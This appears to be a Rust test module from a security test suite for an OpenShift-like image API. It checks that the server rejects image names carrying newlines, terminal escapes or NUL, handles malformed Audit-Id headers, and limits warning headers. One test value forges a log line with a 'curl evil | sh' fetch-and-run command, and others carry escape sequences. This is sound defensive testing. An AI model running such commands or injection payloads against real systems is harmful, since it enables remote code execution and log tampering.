//! Small attacks on readers of logs, headers and responses.

use std::rc::Rc;

use crate::bodies::{image, mapping, stream};
use crate::row::{Finding, Row, Seen, Table};
use crate::site::{Site, get, post, send};

const MAPPINGS: &str = "namespaces/mal/imagestreammappings";

pub(crate) fn table() -> Table {
    let named = |name: &'static str| {
        move || {
            let mut image = image(name);
            // A valid reference, so that only the name is invalid.
            image["dockerImageReference"] = "registry.example.com/ns/s:1".into();
            vec![post(MAPPINGS, &mapping("s", "t", &image))]
        }
    };
    let with_stream = || vec![post("namespaces/mal/imagestreams", &stream("s"))];
    let rows = vec![
        Row::new(
            "image named with a newline",
            &[422],
            named("a\n2026-11-28T18:00:00Z ERROR run: curl evil | sh"),
        )
        .after(with_stream),
        Row::new("image named with an escape", &[422], named("a\u{1b}[2J")).after(with_stream),
        Row::new("image named with NUL", &[422], named("a\0")).after(with_stream),
        Row::new("image named with a line separator", &[201, 422], named("a\u{2028}b"))
            .after(with_stream),
        audit_id("Audit-Id of 900 kB", "a".repeat(900_000), false),
        audit_id("Audit-Id of 65 letters", "a".repeat(65), false),
        audit_id("Audit-Id of 64 letters", "a".repeat(64), true),
        audit_id("Audit-Id with a space", "a b".into(), false),
        audit_id("Audit-Id with a quote", "a\"b".into(), false),
        audit_id("Audit-Id beyond ASCII", "\u{e9}".into(), false),
        audit_id("empty Audit-Id", String::new(), false),
        Row::script("200 unknown fields", |site: Rc<Site>| async move { warned(&site, 200).await }),
        Row::script("20,000 unknown fields", |site: Rc<Site>| async move {
            warned(&site, 20_000).await
        }),
    ];
    Table::new("small", rows)
}

/// The server keeps a short plain Audit-Id of a client and replaces any other.
fn audit_id(name: &str, id: String, is_kept: bool) -> Row {
    Row::script(name, move |site: Rc<Site>| {
        let id = id.clone();
        async move {
            let request = get("namespaces/vic/imagestreams/w").header("audit-id", &id);
            let answer = site
                .mal
                .send_unchecked(request)
                .await
                .map_err(|why| why.to_string())?
                .of_status(&[200, 431])?;
            let shown = answer.header("audit-id").unwrap_or_default();
            let is_plain = shown.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-');
            if answer.status == 200
                && (shown.is_empty() || shown.len() > 64 || !is_plain || (shown == id) != is_kept)
            {
                return Err(format!("the Audit-Id of the response is {shown:.100?}"));
            }
            Ok(Seen { largest: answer.body.len(), note: format!("{}, {shown:.40}", answer.status) })
        }
    })
}

/// Python's http.client accepts at most 100 headers.
async fn warned(site: &Site, fields: usize) -> Finding {
    const MOST: usize = 80;
    let unknown: String = (0..fields).map(|n| format!(r#","u{n}":1"#)).collect();
    let body = format!(
        r#"{{"kind":"ImageStream","apiVersion":"image.openshift.io/v1","metadata":{{"name":"n{fields}"}}{unknown}}}"#
    );
    let request = send("POST", "namespaces/mal/imagestreams", "application/json", body);
    let answer = site.mal.send(request).await.map_err(|why| why.to_string())?.of_status(&[201])?;
    let warnings = answer.headers.iter().filter(|(name, _)| name == "warning").count();
    if warnings == 0 || warnings > MOST || answer.headers.len() > 100 {
        return Err(format!("{warnings} warnings among {} headers", answer.headers.len()));
    }
    Ok(Seen { largest: answer.body.len(), note: format!("{warnings} warnings") })
}
